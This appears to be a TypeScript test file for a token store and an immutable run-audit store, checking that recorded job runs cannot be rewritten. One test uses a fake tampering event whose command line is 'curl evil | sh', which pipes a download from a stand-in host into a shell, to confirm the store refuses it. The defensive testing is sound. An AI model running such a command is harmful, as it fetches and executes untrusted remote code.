  void it("keeps tokens, finds one by id, lists newest first and revokes once", () =>
    withStore(fresh, async (store) => {
      assert.deepEqual(await store.listTokens(), []);
      assert.equal(await store.getToken("00000000000000aa"), undefined);
      const a = token("00000000000000aa", 1_714_000_000_000, { role: "agent", expiresUnixMs: 1_714_000_600_000 });
      const b = token("00000000000000bb", 1_714_000_100_000, { role: "admin", name: "first admin; it's 'quoted'" });
      await store.createToken(a);
      await store.createToken(b);
      assert.deepEqual(await store.getToken(a.id), a);
      assert.deepEqual(await store.listTokens(), [b, a]);
      await assert.rejects(store.createToken(token(a.id, 1_714_000_200_000)), "a second token under one id is refused");
      assert.deepEqual(await store.getToken(a.id), a, "and the first is unchanged");
      assert.equal(await store.revokeToken(a.id, 1_714_000_300_000), true);
      assert.equal(await store.revokeToken(a.id, 1_714_000_400_000), true);
      assert.deepEqual(await store.getToken(a.id), { ...a, revokedUnixMs: 1_714_000_300_000 }, "the first revocation time stays");
      assert.equal(await store.revokeToken("00000000000000cc", 1_714_000_300_000), false);
      assert.equal((await store.listTokens()).length, 2, "a revoked token stays on record");
    }));
}

const refusal = (outcome: StoreOutcome | undefined): string => (outcome !== undefined && isRefusal(outcome) ? outcome.reason : `not refused: ${JSON.stringify(outcome)}`);

/**
 * A run is an audit record: each part (start, one snapshot slot per kind, finish) is written
 * once. A resend of a part is a DUPLICATE; an event contradicting a part is refused and nothing
 * of it stored. Several writers of one job add parts or runs of their own (a job run with step
 * runs beneath it, parent_run_id), never overwrite one another.
 */
function immutableRunsContract(fresh: FreshStore): void {
  const RUN = "slurm:c/12";
  const T = 1_714_000_000_000;

  void it("refuses a second, different run_started: the run keeps its command line", () =>
    withStore(fresh, async (store) => {
      await store.append(fullRun(RUN, { numpy: "1.26.4" }));
      const before = await store.getRun(RUN);
      const rewrite = startedEvent(RUN, { eventId: "rewrite#started", hostname: "attacker" });
      rewrite.runStarted!.config!.argv = ["sh", "-c", "curl evil | sh"];
      const [outcome] = await store.append([rewrite]);
      assert.match(refusal(outcome), /^run slurm:c\/12 already has a different run_started; a run is an audit record written once$/);
      assert.deepEqual(await store.getRun(RUN), before);
    }));

  void it("treats an identical resend under a new event id as DUPLICATE, whatever time it claims", () =>
    withStore(fresh, async (store) => {
      const events = fullRun(RUN, { numpy: "1.26.4" });
      await store.append(events);
      const before = await store.getRun(RUN);
      const resent = events.map((e, i) => ({ ...e, eventId: `resent-${i}`, timeUnixMs: T + 5 + i }));
      assert.deepEqual(await store.append(resent), ["DUPLICATE", "DUPLICATE", "DUPLICATE"]);
      assert.deepEqual(await store.getRun(RUN), before);
      assert.equal((await store.getRun(RUN))?.events.length, 3);
    }));

  void it("refuses a second, different run_finished: a succeeded run stays succeeded, even against an earlier claimed time", () =>
    withStore(fresh, async (store) => {
      await store.append(fullRun(RUN, { numpy: "1.26.4" }));
      const [outcome] = await store.append([finishedEvent(RUN, { eventId: "rewrite#finished", exitCode: 1, time: T + 1 })]);
      assert.match(refusal(outcome), /already has a different run_finished \(exit 0\)/);
      const run = await store.getRun(RUN);
      assert.equal(run?.status, "succeeded");
      assert.equal(run?.exitCode, 0);
      assert.equal(run?.finishedAt, new Date(T + 60_000).toISOString());
      assert.deepEqual(run?.events.map((e) => e.eventId).sort(), [`${RUN}#captured`, `${RUN}#finished`, `${RUN}#started`]);
    }));

  void it("lets a capture add snapshot kinds and warnings, and refuses one naming another digest for a kind held", () =>
    withStore(fresh, async (store) => {
      const env = { body: envSnapshot({ numpy: "1.26.4" }) };
      // Two writers of one run: one records the environment and code, another the host.
      await store.append([startedEvent(RUN), capturedEvent(RUN, { environment: env, code: { body: codeSnapshot("abc123") } }, { eventId: "task-prolog" })]);
      assert.deepEqual(await store.append([capturedEvent(RUN, { host: { body: hostSnapshot("node-9") } }, { eventId: "prolog" })]), ["STORED"]);
      // Naming the held environment again, with a new warning: stored (it adds the warning).
      const warned = capturedEvent(RUN, { environment: { ...env, omitBody: true } }, { eventId: "late", warnings: [{ source: "python", message: "slow" }] });
      assert.deepEqual(await store.append([warned]), ["STORED"]);
      assert.deepEqual(await store.append([{ ...warned, eventId: "late-again" }]), ["DUPLICATE"]);
      const before = await store.getRun(RUN);
      assert.equal(before?.host?.hostname, "node-9");
      assert.equal(before?.gitCommit, "abc123");
      assert.deepEqual(before?.warnings, [{ source: "python", message: "slow" }]);
      // Another environment and another code snapshot, plus a warning: the whole event is refused.
      const other = capturedEvent(RUN, { environment: { body: envSnapshot({ numpy: "2.0.0" }) }, code: { body: codeSnapshot("evil") } }, { eventId: "rewrite", warnings: [{ source: "x", message: "y" }] });
      const [outcome] = await store.append([other]);
      assert.match(refusal(outcome), new RegExp(`already has a different environment snapshot \\(${before?.environmentDigest}, not sha256:`));
      assert.deepEqual(await store.getRun(RUN), before);
      assert.deepEqual((await store.listRuns({ package: "numpy", version: "2.0.0" })).map((r) => r.runId), []);
    }));

  void it("stores the first of two conflicting events in one batch and refuses the second", () =>
    withStore(fresh, async (store) => {
      const outcomes = await store.append([
        startedEvent(RUN),
        finishedEvent(RUN, { eventId: "a", exitCode: 0 }),
        finishedEvent(RUN, { eventId: "b", exitCode: 1 }),
        finishedEvent(RUN, { eventId: "c", exitCode: 0 }),
      ]);
      assert.deepEqual(outcomes.slice(0, 2), ["STORED", "STORED"]);
      assert.match(refusal(outcomes[2]), /already has a different run_finished \(exit 0\)/);
      assert.equal(outcomes[3], "DUPLICATE");
      assert.equal((await store.getRun(RUN))?.status, "succeeded");
      // The refused event's id was never stored: sent again, it is judged (and refused) again.
      assert.match(refusal((await store.append([finishedEvent(RUN, { eventId: "b", exitCode: 1 })]))[0]), /run_finished/);
    }));

  void it("keeps several writers of one job apart: a job run with step runs beneath it, each written once", () =>
    withStore(fresh, async (store) => {
      // The job's prolog, and each step's task prolog, write runs of their own (in any order).
      await store.append([startedEvent(`${RUN}.1`, { time: T + 2000, step: "1", parentRunId: RUN }), finishedEvent(`${RUN}.1`, { exitCode: 1 })]);
      await store.append([startedEvent(RUN, { time: T, step: "" }), capturedEvent(RUN, { host: { body: hostSnapshot("node-1") } })]);
      await store.append([startedEvent(`${RUN}.0`, { time: T + 1000, step: "0", parentRunId: RUN }), finishedEvent(`${RUN}.0`)]);
      await store.append([startedEvent("slurm:c/13.0", { time: T + 3000, step: "0", parentRunId: "slurm:c/13" })]);
      const job = await store.getRun(RUN);
      assert.deepEqual(job?.children, [`${RUN}.1`, `${RUN}.0`]);
      assert.equal(job?.parentRunId, null);
      assert.equal(job?.status, "running");
      const step = await store.getRun(`${RUN}.0`);
      assert.equal(step?.parentRunId, RUN);
      assert.deepEqual(step?.children, []);
      assert.equal((await store.getRun(`${RUN}.1`))?.status, "failed");
      const beneath = async (parent: string, q: RunQuery = {}) => (await store.listRuns({ ...q, parent })).map((r) => [r.runId, r.parentRunId]);
      assert.deepEqual(await beneath(RUN), [[`${RUN}.1`, RUN], [`${RUN}.0`, RUN]]);
      assert.deepEqual(await beneath(RUN, { status: "succeeded" }), [[`${RUN}.0`, RUN]]);
      assert.deepEqual(await beneath(RUN, { limit: 1 }), [[`${RUN}.1`, RUN]]);
      assert.deepEqual(await beneath("slurm:c/13"), [["slurm:c/13.0", "slurm:c/13"]]);
      assert.deepEqual(await beneath("slurm:c/1"), []);
      // The parent is part of the start: naming another is a rewrite, refused.
      const [moved] = await store.append([startedEvent(`${RUN}.0`, { eventId: "move", time: T + 1000, step: "0", parentRunId: "slurm:c/13" })]);
      assert.match(refusal(moved), /already has a different run_started/);
      assert.deepEqual(await beneath("slurm:c/13"), [["slurm:c/13.0", "slurm:c/13"]]);
      assert.deepEqual((await store.getRun(RUN))?.children, [`${RUN}.1`, `${RUN}.0`]);
    }));
}
